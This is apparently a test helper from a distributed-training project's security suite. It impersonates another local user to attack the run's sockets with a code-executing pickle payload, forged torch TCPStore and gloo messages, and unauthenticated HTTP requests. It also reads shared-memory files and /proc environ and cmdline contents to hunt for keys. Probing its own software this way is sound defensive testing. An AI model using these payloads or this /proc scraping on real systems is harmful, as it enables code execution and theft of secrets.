"""A process of another user that attacks the sockets of a run: ``edges_rendezvous.py`` starts it.

    python -I -S edges_stranger.py USER < a pipe that stays open

It watches the kernel's tables for new sockets of USER, which every user can read, and connects to
each at once and again: as an early rank of gloo, as a client of torch's store, as a peer with a
pickle, with half a handshake, over HTTP, and silently. It also looks for the sockets and files of
Ramify in shared folders, and for keys in ``/proc``. When the pipe closes, it prints what it got, as
one line of JSON. Only the standard library, so that any Python of the machine can run it.
"""

from __future__ import annotations

import glob
import json
import os
import pickle
import select
import socket
import struct
import sys
import time

_SECONDS = 0.002
_PER_PORT = 40
_HELD = 400
"""Connections that it keeps open."""
_MAGIC = struct.pack("<I", 0x3C85F7CE)


class Pickled:
    """Unpickled, it leaves a file that proves that code of this user ran."""

    def __reduce__(self) -> object:
        return os.system, ("touch /tmp/ramify-stranger-was-here",)


def store_set(key: str, value: bytes) -> bytes:
    """A request of torch's TCPStore."""
    name = key.encode()
    return b"\0" + struct.pack("<Q", len(name)) + name + struct.pack("<Q", len(value)) + value


PICKLE = pickle.dumps(Pickled())
PAYLOADS = [
    *(struct.pack("<q", number) for number in range(8)),  # gloo: the number of a pair
    b"\0" + _MAGIC + store_set("ramify/attempt", b"mine") + store_set("0//cpu//0/1", b"x" * 100),
    len(PICKLE).to_bytes(4, "big") + PICKLE,
    len(PICKLE).to_bytes(8, "little") + PICKLE,
    b"p" * 64 + len(PICKLE).to_bytes(8, "little") + PICKLE,
    b"p" * 63,
    b"POST /init_weight_transfer_engine HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 2\r\n"
    b"Content-Type: application/json\r\n\r\n{}",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"",
]


def listeners(user: int) -> set[tuple[str, int]]:
    """(address, port) of the listening TCP sockets of ``user``."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as file:
                lines = file.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            host, _, port = fields[1].partition(":")
            if fields[3] == "0A" and int(fields[7]) == user:
                raw = struct.pack("=I", int(host[-8:], 16))
                address = socket.inet_ntop(socket.AF_INET, raw)
                found.add(("127.0.0.1" if address == "0.0.0.0" else address, int(port, 16)))
    return found


def unix_paths() -> list[str]:
    try:
        with open("/proc/net/unix") as file:
            lines = file.read().splitlines()[1:]
    except OSError:
        return []
    paths = {line.split()[7] for line in lines if len(line.split()) > 7}
    return [path for path in paths if "ramify" in path or "/ray" in path]


class Stranger:
    def __init__(self, user: int) -> None:
        self.user = user
        self.before = listeners(user)
        self.tries: dict[tuple[str, int], int] = {}
        self.open: dict[int, tuple[socket.socket, tuple[str, int], int]] = {}
        self.received: dict[str, int] = {}
        """``port``: most bytes that one connection brought."""
        self.replies: dict[str, str] = {}
        self.entered: list[str] = []
        self.seen: set[str] = set()

    def attack(self) -> None:
        for place in listeners(self.user) - self.before:
            for _ in range(4):
                number = self.tries.get(place, 0)
                if number >= _PER_PORT or len(self.open) >= _HELD:
                    break
                self.tries[place] = number + 1
                self.try_at(place, PAYLOADS[number % len(PAYLOADS)])
        self.read()

    def try_at(self, place: tuple[str, int], payload: bytes) -> None:
        peer = socket.socket()
        peer.setblocking(False)
        peer.connect_ex(place)
        _, writable, _ = select.select([], [peer], [], 0.05)
        try:
            if writable and payload:
                peer.send(payload)
        except OSError:
            peer.close()
            return
        self.open[peer.fileno()] = peer, place, 0

    def read(self) -> None:
        ready, _, _ = select.select([each[0] for each in self.open.values()], [], [], 0)
        for peer in ready:
            peer, place, count = self.open[peer.fileno()]
            try:
                block = peer.recv(1 << 16)
            except OSError:
                block = b""
            name = f"{place[0]}:{place[1]}"
            if block:
                count += len(block)
                self.open[peer.fileno()] = peer, place, count
                self.received[name] = max(count, self.received.get(name, 0))
                self.replies.setdefault(name, block[:60].decode("latin-1"))
            else:
                del self.open[peer.fileno()]
                peer.close()

    def look(self) -> None:
        """Sockets and files in shared folders, and what ``/proc`` shows."""
        for path in unix_paths():
            peer = socket.socket(socket.AF_UNIX)
            try:
                peer.settimeout(0.1)
                peer.connect(path)
                self.entered.append(path)
            except OSError:
                pass
            peer.close()
        for path in glob.glob("/tmp/ramify*/*") + glob.glob("/dev/shm/ramify*"):
            try:
                with open(path, "rb") as file:
                    self.seen.add(file.read(1000).hex())
            except OSError:
                pass
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            try:
                with open(path, "rb") as file:
                    text = file.read(1 << 16)
                if os.stat(path).st_uid == self.user:
                    self.seen.add(text.hex())
            except OSError:
                pass


def main() -> None:
    stranger = Stranger(int(sys.argv[1]))
    print("ready", flush=True)
    looked = 0.0
    while not select.select([sys.stdin], [], [], _SECONDS)[0]:
        stranger.attack()
        if time.monotonic() - looked > 0.3:
            looked = time.monotonic()
            stranger.look()
    stranger.read()
    print(
        json.dumps(
            {
                "ports": {f"{host}:{port}": n for (host, port), n in stranger.tries.items()},
                "received": stranger.received,
                "replies": stranger.replies,
                "entered": stranger.entered,
                "seen": sorted(stranger.seen),
            }
        )
    )


if __name__ == "__main__":
    main()
